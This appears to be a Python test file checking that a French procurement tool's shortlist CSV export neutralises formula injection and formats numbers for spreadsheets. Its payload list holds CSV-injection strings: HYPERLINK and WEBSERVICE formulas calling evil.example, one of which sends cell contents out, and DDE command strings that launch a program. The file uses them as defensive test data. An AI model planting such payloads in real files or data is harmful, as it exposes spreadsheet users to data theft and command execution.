"""The shortlist CSV never hands a spreadsheet a formula from supplier data (CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from procure.suppliers import services as svc
from sourcing.models import Shortlist, ShortlistItem, Supplier

# Payloads that spreadsheets (LibreOffice Calc, Excel) run as formulas when a cell starts so.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=WEBSERVICE("https://evil.example/")',
]


def _one_item_csv(session, supplier: Supplier, **item) -> str:
    """The CSV of a shortlist holding `supplier` alone, as one ShortlistItem(**item)."""
    session.add(supplier)
    session.flush()
    shortlist = Shortlist(title="Test", need="besoin")
    session.add(shortlist)
    session.flush()
    session.add(ShortlistItem(shortlist_id=shortlist.id, supplier_id=supplier.id, **item))
    session.commit()
    return svc.shortlist_csv(session=session, shortlist_id=shortlist.id)


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix(svc.CSV_BOM)), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_supplier_text_is_defused_in_the_csv(session, payload):
    body = _one_item_csv(
        session,
        Supplier(name=payload, siren=None, department="75", size="PME"),
        score=-1.5,
        components={},
        evidence=[{"date": "=1+1", "buyer": "@acheteur", "object": "=x", "cpv": "72"}],
        judgement={},
    )
    header, row = _rows(body)
    cells = dict(zip(header, row, strict=True))
    assert cells["Nom"] == "'" + payload
    assert cells["Marchés passés (preuves)"].startswith("'")
    assert cells["Score (sur 100)"] == "-1,50"  # our own numbers stay numbers
    for name, value in cells.items():
        if name != "Score (sur 100)":
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_plain_text_is_untouched():
    assert svc.shortlist_csv  # the facade exports it
    from procure.suppliers.services.shortlists import csv_text

    assert csv_text("Société Générale d'IA") == "Société Générale d'IA"
    assert csv_text(None) == ""


def test_csv_is_french_for_spreadsheets(session):
    """BOM for Excel, semicolons, decimal commas without group separator, unique French headers."""
    body = _one_item_csv(
        session,
        Supplier(name="Société Éloïse", siren="552100554", department="69", size="PME"),
        score=1234.5,  # never a real score (0 to 100): checks the absence of group separator
        components={"texte": 0.40625, "cpv": 0.032, "taille": 1.0},
        evidence=[
            {
                "date": "2019-02-25",
                "date_fr": "25 février 2019",
                "buyer": "Ville",
                "object": "Objet",
                "cpv": "72000000",
            }
        ],
        judgement={"fit": 3},
    )
    assert body.startswith("\ufeff")
    header, row = _rows(body)
    assert len(header) == len(set(header)) == len(row)
    assert header == svc.shortlist_columns()
    cells = dict(zip(header, row, strict=True))
    assert cells["Score (sur 100)"] == "1234,50"
    assert cells["Pertinence du texte (0 à 1)"] == "0,406"
    assert cells["Taille (0 à 1)"] == "1,000"
    assert cells["Taille de l'entreprise"] == "PME"
    assert cells["Avis du modèle (note sur 4)"] == "3"
    assert cells["Nom"] == "Société Éloïse"
    assert cells["Marchés passés (preuves)"] == "25 février 2019 Ville : Objet (72000000)"
    assert not [c for c in row if re.fullmatch(r"-?\d+\.\d+", c)]  # no dot decimal anywhere
